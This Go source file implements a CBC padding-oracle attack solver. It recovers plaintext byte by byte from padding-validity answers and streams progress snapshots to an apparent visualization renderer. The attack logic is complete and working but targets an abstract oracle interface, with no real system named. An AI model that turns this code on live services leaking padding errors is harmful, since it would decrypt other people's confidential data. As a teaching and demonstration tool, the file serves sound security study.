// Package solver implements the core CBC padding-oracle attack: recovering
// a message's plaintext one byte at a time by forging chosen-ciphertext
// probes and reading nothing from the oracle but a single valid/invalid
// padding verdict per probe.
package solver

import (
	"context"
	"errors"
	"fmt"

	"github.com/dkowalski/padoracle/block"
	"github.com/dkowalski/padoracle/chanlatest"
	"github.com/dkowalski/padoracle/oracle"
)

// Result is the outcome of a completed Run: the recovered plaintext, one
// slice per target block, plus the telemetry accumulated along the way.
type Result struct {
	Plaintext [][]byte
	Stats     Stats
}

// Solver drives the attack against a single Oracle, publishing progress to a
// latest-value channel a renderer can drain concurrently.
type Solver struct {
	Oracle    oracle.Oracle
	BlockSize int
	Channel   *chanlatest.Chan[Snapshot]
}

// New builds a Solver. blockSize must match the cipher the oracle was built
// against; for AES that's 16.
func New(o oracle.Oracle, blockSize int, ch *chanlatest.Chan[Snapshot]) *Solver {
	return &Solver{Oracle: o, BlockSize: blockSize, Channel: ch}
}

// state holds everything Run mutates while working; a Snapshot is always a
// deep copy taken out of this, never a view onto it.
type state struct {
	blockSize    int
	n            int // total block count, including the IV
	cipherBlocks [][]byte
	workingPrev  [][]byte
	intermediate []ByteRow
	plaintext    []ByteRow
	stats        Stats
	version      uint64
}

// Run attacks ciphertext (iv‖c1‖c2‖…‖c_{N-1}) block by block, right to
// left within each block, publishing a Snapshot to the Channel before every
// guess probe and after every solved byte and block, and closing the Channel
// exactly once before returning.
func (s *Solver) Run(ctx context.Context, ciphertext []byte) (result Result, err error) {
	defer s.Channel.Close()
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("%w: recovered from panic in solver: %v", ErrOracleUnavailable, r)
		}
	}()

	blockSize := s.BlockSize
	if blockSize <= 0 {
		blockSize = 16
	}

	if len(ciphertext) == 0 || len(ciphertext)%blockSize != 0 {
		return Result{}, fmt.Errorf("%w: ciphertext length %d is not a positive multiple of block size %d",
			ErrInvalidInput, len(ciphertext), blockSize)
	}

	cipherBlocks, err := block.Split(ciphertext, blockSize)
	if err != nil {
		return Result{}, fmt.Errorf("%w: %s", ErrInvalidInput, err)
	}
	n := len(cipherBlocks)
	if n < 2 {
		return Result{}, fmt.Errorf("%w: need an iv plus at least one target block, got %d block(s)",
			ErrInvalidInput, n)
	}

	st := &state{
		blockSize:    blockSize,
		n:            n,
		cipherBlocks: cipherBlocks,
		workingPrev:  make([][]byte, n),
		intermediate: make([]ByteRow, n),
		plaintext:    make([]ByteRow, n),
		stats:        newStats(n),
	}
	for i := 0; i < n; i++ {
		st.workingPrev[i] = block.Copy(cipherBlocks[i])
		st.intermediate[i] = newByteRow(blockSize)
		st.plaintext[i] = newByteRow(blockSize)
	}

	if ok := s.publish(st, 1, 0, -1, 0, false); !ok {
		return Result{}, ErrCancelled
	}

	for target := 1; target < n; target++ {
		if err := ctx.Err(); err != nil {
			return Result{}, fmt.Errorf("%w: %s", ErrCancelled, err)
		}

		prevIdx := target - 1
		copy(st.workingPrev[prevIdx], cipherBlocks[prevIdx])

		if err := s.solveBlock(ctx, st, target); err != nil {
			return Result{}, err
		}

		if ok := s.publish(st, target, 0, -1, 0, target == n-1); !ok {
			return Result{}, ErrCancelled
		}
	}

	plaintext := make([][]byte, n-1)
	for target := 1; target < n; target++ {
		row := st.plaintext[target]
		out := make([]byte, blockSize)
		for i, slot := range row {
			out[i] = slot.Value
		}
		plaintext[target-1] = out
	}

	return Result{Plaintext: plaintext, Stats: st.stats.clone()}, nil
}

// solveBlock recovers every byte of target block n, right to left, forging
// padding widths k = 1..blockSize against the scratch "previous block".
func (s *Solver) solveBlock(ctx context.Context, st *state, n int) error {
	prevIdx := n - 1
	prev := st.workingPrev[prevIdx]
	targetBlock := st.cipherBlocks[n]

	for k := 1; k <= st.blockSize; k++ {
		i := st.blockSize - k

		for j := i + 1; j < st.blockSize; j++ {
			prev[j] = st.intermediate[n][j].Value ^ byte(k)
		}

		originalByte := prev[i]
		guess, err := s.findGuess(ctx, st, n, prev, targetBlock, i, k, originalByte)
		if err != nil {
			return err
		}

		prev[i] = guess
		st.intermediate[n][i] = ByteSlot{Value: guess ^ byte(k), Solved: true}
		st.plaintext[n][i] = ByteSlot{
			Value:  (guess ^ byte(k)) ^ st.cipherBlocks[prevIdx][i],
			Solved: true,
		}

		if ok := s.publish(st, n, i, -1, k, false); !ok {
			return ErrCancelled
		}
	}
	return nil
}

// findGuess tries every byte value at position i, via the shared tryGuesses
// search also used by solvePrevBlock, until one survives confirmByFlip's
// disambiguation check, publishing progress and recording stats along the
// way.
func (s *Solver) findGuess(
	ctx context.Context,
	st *state,
	n int,
	prev []byte,
	targetBlock []byte,
	i, k int,
	originalByte byte,
) (byte, error) {
	guess, found, err := tryGuesses(ctx, s.Oracle, st.blockSize, k, i, prev, targetBlock, originalByte, probeHooks{
		beforeProbe: func(g byte) bool {
			return s.publish(st, n, i, int(g), k, false)
		},
		afterProbe: func(valid bool) {
			st.stats.recordTry(n, valid)
		},
		afterConfirm: func(confirmed, probed bool) {
			if probed {
				st.stats.recordTry(n, confirmed)
			}
		},
	})
	if err != nil {
		if errors.Is(err, ErrCancelled) {
			return 0, err
		}
		return 0, fmt.Errorf("%w: %s", ErrOracleUnavailable, err)
	}
	if !found {
		prev[i] = originalByte
		return 0, fmt.Errorf("%w: block %d, pad width %d: no byte value produced a confirmed valid padding",
			ErrOracleMisbehavior, n, k)
	}

	st.stats.recordConfirmedHit(n)
	return guess, nil
}

// publish assembles and emits a Snapshot, reporting whether the channel is
// still open. A closed channel means the consumer (or the context behind it)
// has asked the solver to stop.
func (s *Solver) publish(st *state, currentBlock, byteIndex, guess, padWidth int, complete bool) bool {
	st.version++
	snap := Snapshot{
		Version:      st.version,
		Complete:     complete,
		BlockSize:    st.blockSize,
		BlockCount:   st.n - 1,
		CurrentBlock: currentBlock,
		ByteIndex:    byteIndex,
		Guess:        guess,
		PadWidth:     padWidth,
		Ciphertext:   cloneBlocks(st.cipherBlocks),
		WorkingPrev:  cloneBlocks(st.workingPrev),
		Intermediate: cloneRows(st.intermediate),
		Plaintext:    cloneRows(st.plaintext),
		Stats:        st.stats.clone(),
	}
	return s.Channel.Publish(snap)
}
